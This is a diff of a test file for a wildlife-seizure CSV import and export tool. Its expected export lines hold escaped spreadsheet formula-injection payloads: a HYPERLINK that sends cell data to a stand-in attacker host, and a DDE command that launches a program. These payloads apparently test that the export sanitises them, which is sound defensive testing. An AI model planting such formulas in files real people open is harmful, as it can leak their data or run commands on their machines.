@@ -203,9 +203,9 @@ describe('cases/import', () => {
     }));
     const csv = seizuresToCsv(stored);
     const lines = csv.split('\r\n');
-    expect(lines[1]).toBe(`2019-07-21,day,SG,,,,,other,elephant ivory,,8.8,t,,,,,,,,,,"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")",,,,,`);
-    expect(lines[2]).toBe(`2019-04-03,day,SG,,,,,other,pangolin scales,,12.9,t,,,,,,,,,,'+cmd|' /C calc'!A0,,,,,`);
-    expect(lines[3]).toBe(`2018-03-05,day,VN,,,,,other,pangolin scales,,3500,kg,,,,,,,,,,'@SUM(1+1),,,,,`);
+    expect(lines[1]).toBe(`2019-07-21,day,SG,,,,,other,elephant ivory,,8.8,t,,,,,,,,,,"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")",,,,,,,`);
+    expect(lines[2]).toBe(`2019-04-03,day,SG,,,,,other,pangolin scales,,12.9,t,,,,,,,,,,'+cmd|' /C calc'!A0,,,,,,,`);
+    expect(lines[3]).toBe(`2018-03-05,day,VN,,,,,other,pangolin scales,,3500,kg,,,,,,,,,,'@SUM(1+1),,,,,,,`);
   });
 });
 
@@ -217,9 +217,10 @@ describe('seizures-public.csv', () => {
     expect(parsed.report.rejected).toEqual([]);
     expect(parsed.report.rejectedRows).toBe(0);
     expect(parsed.report.skippedBlank).toBe(0);
-    // The data set's own commodity wording ("elephant ivory (tusks)") is mostly not the curated list's: one warning names them.
+    // Names the curated list has no entry for (its elephant ivory wordings are listed since the
+    // tester's finding; equipment and one-off descriptions are not): one warning names them.
     expect(parsed.report.warnings).toHaveLength(1);
-    expect(parsed.report.warnings[0]).toMatch(/^44 rows name a commodity not in the commodity list, kept as written: “elephant ivory \(tusks\)” \(5 rows\), .* and 28 more\./);
+    expect(parsed.report.warnings[0]).toMatch(/^27 rows name a commodity not in the commodity list, kept as written: “excavators used for illegal gold mining” \(2 rows\), .* and 18 more\./);
     expect(parsed.mappingSource).toBe('fixed');
     expect(parsed.delimiter).toBe(',');
     expect(Object.values(parsed.mapping)).not.toContain('ignore');
